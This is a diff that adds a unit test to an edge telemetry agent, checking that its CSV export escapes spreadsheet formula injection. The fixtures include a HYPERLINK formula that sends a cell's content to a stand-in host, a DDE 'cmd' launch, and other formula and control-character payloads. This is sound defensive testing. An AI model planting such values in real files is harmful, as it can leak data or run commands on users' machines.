@@ -243,3 +243,41 @@ def test_retention_keeps_the_rollups_that_readings_bucket_returns(db: str) -> No
         (T0, 1, 1.0),
         (T0 + 60, 1, 2.0),
     ]
+
+
+def test_csv_never_hands_a_spreadsheet_a_formula_a_gateway_sent(store_address: str) -> None:
+    """A gateway's text (a value, a device id, a unit, a reason) that a spreadsheet would
+    run as a formula is written with a leading apostrophe; numbers, and text that is
+    only a number, are written as they are; ``rules test --replay`` reads the text back."""
+    from edge_agent.rules.series import parse_value  # noqa: PLC0415
+
+    sent = [
+        ('=HYPERLINK("http://x.invalid/?"&A1,"open")', "=cmd|'/C calc'!A0", "+1+1", None),
+        (None, "@SUM(1+1)", "-2+3", "\tx"),
+        ("-5", "dev-1", "°C", None),
+        (-3.5, "dev-1", "-", None),
+        (None, "dev-1", None, "\r=1"),
+    ]
+    readings = [
+        {"dev": dev, "pt": "p", "v": v, "u": u, "q": "good", "ts": T0 + i}
+        | ({} if r is None else {"q": "bad", "r": r, "v": None})
+        for i, (v, dev, u, r) in enumerate(sent)
+    ]
+    store = open_store(store_address)
+    try:
+        with store.round() as rnd:
+            batch = {"gw": "gw-00", "stream": "s1", "seq_first": 1, "seq_last": len(sent)}
+            rnd.insert_telemetry(decode_telemetry(wire(batch | {"readings": readings})))
+    finally:
+        store.close()
+    out = ok("readings", "--db", store_address, "--all", "--oldest-first", "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(out.stdout)))
+    cells = [(r["value"], r["device"], r["unit"], r["reason"]) for r in rows]
+    assert cells == [
+        ('\'=HYPERLINK("http://x.invalid/?"&A1,"open")', "'=cmd|'/C calc'!A0", "'+1+1", ""),
+        ("", "'@SUM(1+1)", "'-2+3", "'\tx"),
+        ("-5", "dev-1", "°C", ""),
+        ("-3.5", "dev-1", "'-", ""),
+        ("", "dev-1", "", "'\r=1"),
+    ]
+    assert parse_value(cells[0][0], carries_text=True) == sent[0][0]
